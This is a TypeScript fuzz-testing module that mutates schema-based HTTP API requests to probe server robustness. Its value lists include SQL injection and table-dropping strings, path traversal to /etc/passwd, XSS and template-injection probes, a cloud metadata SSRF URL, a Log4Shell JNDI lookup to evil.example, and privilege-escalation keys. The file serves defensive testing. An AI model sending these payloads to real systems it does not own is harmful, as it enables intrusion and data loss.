import type { Seeded } from '#scripts/eval/seeded.ts';
import type { Question } from './caller.ts';
import type { Belongings } from './target.ts';
import { NOWHERE, aimed, type Operation, type Schema } from './ring.ts';

/** What stands where something else was expected. */
const ODD: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e308,
  -1e308,
  2 ** 53,
  2 ** 31,
  -(2 ** 63),
  '',
  ' ',
  '\0',
  'null',
  'undefined',
  'NaN',
  '0',
  '-1',
  '1e309',
  'true',
  [],
  {},
  [null],
  [[[[[]]]]],
  { a: { b: { c: {} } } },
  { toString: 1 },
  { length: -1 },
  'a'.repeat(10_000),
  'İ'.repeat(5_000),
  'é'.repeat(2_000),
  '👩‍👩‍👧‍👦'.repeat(500),
  '\u202e\u200b\u2066',
  '\ud800',
  '\udfff\ud800',
  '﻿x',
  'ﬀ',
  '\u2028\u2029',
  '\r\n',
  '\x1b[31m',
  "' or '1'='1",
  '"; drop table accounts; --',
  '${7*7}',
  '{{7*7}}',
  '%s%s%n',
  '../../../etc/passwd',
  '<script>alert(1)</script>',
  '\\u0000',
  '$1',
  '{1,2}',
  '\\N',
  'copy (select 1) to program',
  '0000-00-00',
  '2026-02-30',
  '2026-13-01',
  '9999-12-31',
  '-000001-01-01',
  '+275760-09-13',
  '10000-01-01',
  '1582-10-10',
  '0001-01-01T00:00:00Z',
  '2026-01-01T25:61:61Z',
  '2026-01-01T00:00:00.000Z',
  '00000000-0000-4000-8000-000000000000',
  'FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF',
  '{00000000-0000-4000-8000-000000000000}',
  'data:image/png;base64,AAAA',
  `data:image/png;base64,${'A'.repeat(100_000)}`,
  'javascript:alert(1)',
  'http://169.254.169.254/',
  Array.from({ length: 2_000 }, () => 'a'),
  Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`k${at}`, at])),
];

const TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'APPLICATION/JSON',
  'application/json;;;',
  'application/vnd.api+json',
  'application/csp-report',
  'text/plain',
  'text/json',
  'multipart/form-data',
  'application/x-www-form-urlencoded',
  'application/octet-stream',
  '',
  'a/b/c',
  '*/*',
  'application/json, text/plain',
];

/** Requests that are nearly right: made from what the server says that it takes, and then broken in one to three places. */
export function mutated(random: Seeded, operation: Operation, at: Belongings): Question {
  const body = random.chance(0.5) ? undefined : sample(random, operation.body?.schema ?? {}, 0);
  const question = aimed(
    operation,
    random.chance(0.7) ? at : undefined,
    ...(body === undefined ? [] : [body]),
  );
  let {
    path,
    headers = {},
    body: content,
  } = { ...question, body: question.body as string | undefined };
  path = withQuery(random, operation, path);
  const breaks = 1 + random.whole(3);
  for (let time = 0; time < breaks; time += 1) {
    const way = random.whole(10);
    if (way <= 5 && content !== undefined)
      content = JSON.stringify(broken(random, parsed(content)));
    else if (way === 6) path = brokenPath(random, path);
    else if (way === 7) headers = { ...headers, ...oddHeaders(random) };
    else if (way === 8 && content !== undefined) content = brokenText(random, content);
    else if (way === 9) headers = { ...headers, 'Content-Type': random.pick(TYPES) };
    else path = withQuery(random, operation, path, true);
  }
  return {
    method: question.method,
    path,
    headers,
    ...(content === undefined ? {} : { body: content }),
  };
}

function parsed(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return {};
  }
}

/** A value that fits the schema, as far as a schema says. */
function sample(random: Seeded, schema: Schema, depth: number): unknown {
  if (schema.const !== undefined) return schema.const;
  if (schema.enum) return random.pick(schema.enum);
  const either = schema.anyOf ?? schema.oneOf ?? schema.allOf;
  if (either && either.length > 0) return sample(random, random.pick(either), depth);
  if (depth > 6) return null;
  const type = typeof schema.type === 'string' ? schema.type : schema.type?.[0];
  if (type === 'object') return sampleObject(random, schema, depth);
  if (type === 'array')
    return Array.from({ length: (schema.minItems ?? 0) + random.whole(3) }, () =>
      sample(random, schema.items ?? {}, depth + 1),
    );
  if (type === 'integer' || type === 'number')
    return random.chance(0.5) ? (schema.minimum ?? 0) : Math.min(schema.maximum ?? 1_000, 1_000);
  if (type === 'boolean') return random.chance(0.5);
  if (type === 'null') return null;
  return sampleText(random, schema);
}

function sampleObject(random: Seeded, schema: Schema, depth: number): object {
  const required = new Set(schema.required);
  return Object.fromEntries(
    Object.entries(schema.properties ?? {})
      .filter(([name]) => required.has(name) || random.chance(0.6))
      .map(([name, property]) => [name, sample(random, property, depth + 1)]),
  );
}

function sampleText(
  random: Seeded,
  { format, pattern = '', minLength = 0, maxLength }: Schema,
): string {
  if (format === 'uuid') return NOWHERE;
  if (format === 'date' || /\\d\{4\}-\\d\{2\}/.test(pattern)) return '2026-03-04';
  if (format === 'date-time') return '2026-03-04T05:06:07.000Z';
  if (format === 'email') return 'someone@example.com';
  if (pattern.includes('0-9a-f')) return '0'.repeat(64);
  if (random.chance(0.05)) return 'a'.repeat(maxLength ?? 100);
  return random
    .pick(['Ida', 'OR', '97301', '9 Elm Row', 'A sentence with several words.', '1', 'yes'])
    .padEnd(minLength, 'x');
}

/** The value with something wrong in one place, however deep. */
function broken(random: Seeded, value: unknown): unknown {
  const here = random.chance(0.15) || typeof value !== 'object' || value === null;
  if (here) return random.pick(ODD);
  if (Array.isArray(value)) {
    if (value.length === 0 || random.chance(0.2))
      return [...value, ...Array.from({ length: 1 + random.whole(100) }, () => random.pick(ODD))];
    const place = random.whole(value.length);
    return value.map((each: unknown, at) => (at === place ? broken(random, each) : each));
  }
  const entries = Object.entries(value);
  const chance = random.whole(5);
  if (chance === 0 || entries.length === 0)
    return {
      ...value,
      [random.pick([
        '__proto__',
        'constructor',
        'extra',
        '',
        '\0',
        'id',
        'role',
        'isAdmin',
        'accountId',
        'plan',
      ])]: random.pick(ODD),
    };
  const place = random.whole(entries.length);
  if (chance === 1) return Object.fromEntries(entries.filter((_, at) => at !== place));
  return Object.fromEntries(
    entries.map(([name, each], at) => [name, at === place ? broken(random, each) : each]),
  );
}

function brokenText(random: Seeded, text: string): string {
  const at = random.whole(text.length + 1);
  const way = random.whole(6);
  if (way === 0) return text.slice(0, at);
  if (way === 1)
    return `${text.slice(0, at)}${random.pick(['"', '{', '}', ',', '\0', '\\', '\u2028', '\ud800'])}${text.slice(at)}`;
  if (way === 2) return `${text}${text}`;
  if (way === 3) return `\uFEFF${text}`;
  if (way === 4) return `${'['.repeat(5_000)}${text}`;
  return text.replace(/\d+/, '1e999');
}

const oddText = (random: Seeded) => {
  const odd = random.pick(ODD);
  const text = typeof odd === 'string' ? odd : JSON.stringify(odd);
  return encodeURIComponent(text.slice(0, 400).toWellFormed());
};

function brokenPath(random: Seeded, path: string): string {
  const [place = '', query] = path.split('?');
  const segments = place.split('/');
  const at = 2 + random.whole(Math.max(1, segments.length - 2));
  const other = [
    oddText(random),
    `${segments[at] ?? ''}%00`,
    '..%2f',
    '%',
    (segments[at] ?? '').toUpperCase(),
    `${segments[at] ?? ''}/`,
    '',
    ';a=b',
  ];
  const odd = segments
    .map((segment, index) => (index === at ? random.pick(other) : segment))
    .join('/');
  return query === undefined ? odd : `${odd}?${query}`;
}

function withQuery(random: Seeded, { parameters }: Operation, path: string, odd = false): string {
  const query = parameters.filter((parameter) => parameter.in === 'query');
  const parts = query.flatMap(({ name, schema }) => {
    if (!odd && random.chance(0.5)) return [];
    const value =
      odd && random.chance(0.6)
        ? oddText(random)
        : encodeURIComponent(String(sample(random, schema, 0)));
    const pair = `${name}=${value}`;
    return random.chance(0.1)
      ? [pair, pair]
      : [random.chance(0.05) ? pair.replace('=', '[]=') : pair];
  });
  if (odd && random.chance(0.2))
    parts.push(`${random.pick(['__proto__', 'constructor[x]', 'a[b][c]', '%00', '&', '=='])}=1`);
  return parts.length === 0 ? path : `${path}${path.includes('?') ? '&' : '?'}${parts.join('&')}`;
}

function oddHeaders(random: Seeded): Record<string, string> {
  return random.pick<Record<string, string>>([
    {
      'Accept-Language': random.pick([
        'es',
        'es-MX;q=0.9, en',
        '*',
        ';;;',
        'a'.repeat(4_000),
        'x-klingon',
      ]),
    },
    { Accept: random.pick(['text/html', 'application/xml', '*/*;q=0', '']) },
    { 'If-None-Match': random.pick(['*', '"x"', 'W/"x"', 'a'.repeat(3_000)]) },
    { 'If-Modified-Since': 'Sat, 31 Feb 99999 25:61:61 GMT' },
    {
      Range: random.pick([
        'bytes=0-0',
        'bytes=-1',
        'bytes=9999999999999999999-',
        'bytes=0-0,1-1,2-2',
        'lines=1',
      ]),
    },
    { 'X-Forwarded-For': random.pick(['127.0.0.1', 'a'.repeat(2_000), '::1, ::1', "' or 1=1"]) },
    { 'X-Request-Id': '\t{"level":60}' },
    {
      'User-Agent': random.pick(['', 'a'.repeat(8_000), '<script>', '${jndi:ldap://evil.example}']),
    },
    {
      Authorization: random.pick([
        'Bearer',
        'Bearer ',
        `Bearer ${'A'.repeat(5_000)}`,
        'Basic YTpi',
        'bearer cfd_x',
        'Bearer a b',
      ]),
    },
    {
      Cookie: random.pick([
        'cf_session_token=',
        `cf_session_token=${'A'.repeat(5_000)}`,
        'cf_session_token="a',
        'a;b;c==',
        'cf_admin_token=%00',
      ]),
    },
    {
      'Content-Encoding': random.pick(['gzip', 'br', 'identity', 'deflate', 'none', 'gzip, gzip']),
    },
    { 'Time-Zone': 'Nowhere/City' },
  ]);
}
